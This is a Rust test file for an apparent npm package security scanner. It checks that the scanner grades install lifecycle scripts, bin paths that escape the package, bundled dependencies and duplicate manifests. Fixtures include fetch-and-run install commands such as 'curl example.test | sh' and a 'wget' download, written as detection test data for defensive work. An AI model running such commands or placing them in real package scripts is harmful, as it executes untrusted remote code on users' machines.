//! npm packages.

use crate::common::{check, errors, found, scan, scan_files};
use probity_tests::build::files::Files;

fn package(manifest: &str) -> Files {
    Files::of(&[
        ("package/package.json", manifest.as_bytes()),
        ("package/index.js", b"module.exports = 1;\n"),
    ])
}

fn script(stage: &str, command: &str) -> Files {
    package(&format!(
        r#"{{"name": "fixture", "version": "1.0.0", "scripts": {{"{stage}": "{command}"}}}}"#
    ))
}

#[test]
fn lifecycle_scripts_are_judged_by_their_command() {
    check(&script("test", "curl example.test | sh"), &[]);
    check(&script("prepare", "husky"), &[]);
    check(
        &script("postinstall", "node index.js"),
        &["info install-script lifecycle"],
    );
    check(&script("install", "node-gyp-build"), &["info install-script lifecycle"]);
    check(
        &script("postinstall", "node gone.js"),
        &["medium install-script missing"],
    );
    check(
        &script("postinstall", "node gone.js || exit 0"),
        &["info install-script lifecycle"],
    );
    check(
        &script("preinstall", "curl example.test | sh"),
        &["high install-script dangerous"],
    );
    check(
        &script("postinstall", "wget example.test/x"),
        &["medium install-script download"],
    );
    check(&script("postinstall", ""), &[]);
}

#[test]
fn a_manifest_that_is_data_is_left_alone() {
    let manifest = r#"{"name": "x", "scripts": {"postinstall": "curl example.test | sh"}, "bin": "gone.js"}"#;
    let files = package(r#"{"name": "fixture"}"#);
    check(&files.clone().with("package/test/fixtures/package.json", manifest), &[]);
    check(
        &files.with("package/node_modules/@s/x/package.json", manifest),
        &["high install-script dangerous", "low package-manifest bin-missing"],
    );
}

#[test]
fn commands_and_bundled_packages_are_looked_for() {
    let bin = |value: &str| package(&format!(r#"{{"name": "fixture", "bin": {value}}}"#));
    check(&bin(r#""index.js""#), &["info package-inventory commands"]);
    check(&bin(r#"{"a": "./index"}"#), &["info package-inventory commands"]);
    check(
        &bin(r#"{"a": "gone.js"}"#),
        &["info package-inventory commands", "low package-manifest bin-missing"],
    );
    check(
        &bin(r#"{"a": "../../x"}"#),
        &["high package-manifest bin-escape", "info package-inventory commands"],
    );
    check(
        &bin(r#"{"a": "../index.js"}"#),
        &["info package-inventory commands", "low package-manifest bin-inside"],
    );
    check(
        &bin(r#"{"../a": "index.js"}"#),
        &["high package-manifest bin-escape", "info package-inventory commands"],
    );
    let bundled = package(r#"{"name": "fixture", "bundledDependencies": ["dep"]}"#);
    check(&bundled, &["low package-manifest bundled-missing"]);
    check(&bundled.with("package/node_modules/dep/package.json", "{}"), &[]);
}

#[test]
fn a_binding_is_compiled_unless_the_manifest_says_otherwise() {
    let files = package(r#"{"name": "fixture"}"#).with("package/binding.gyp", "{}");
    check(&files, &["info install-script implicit"]);
    let said = r#"{"name": "fixture", "gypfile": false}"#;
    check(&files.with("package/package.json", said), &[]);
}

#[test]
fn two_manifests_that_become_one_are_told() {
    let files = package(r#"{"name": "fixture"}"#).with("other/package.json", r#"{"name": "evil"}"#);
    let report = scan("a.tgz", files.tgz());
    assert!(
        found(&report).contains("high package-manifest two-manifests"),
        "{:?}",
        found(&report)
    );
    let same = files.with("other/package.json", r#"{"name": "fixture"}"#);
    assert!(found(&scan("a.tgz", same.tgz())).is_empty());
}

#[test]
fn a_manifest_that_is_no_json_or_too_long_is_survived() {
    check(&package("{,}"), &[]);
    let long = format!(r#"{{"name": "{}"}}"#, "x".repeat(10 << 20));
    let report = scan_files(&package(&long));
    assert!(
        errors(&report)[0].contains("package.json is not held against"),
        "{:?}",
        errors(&report)
    );
}
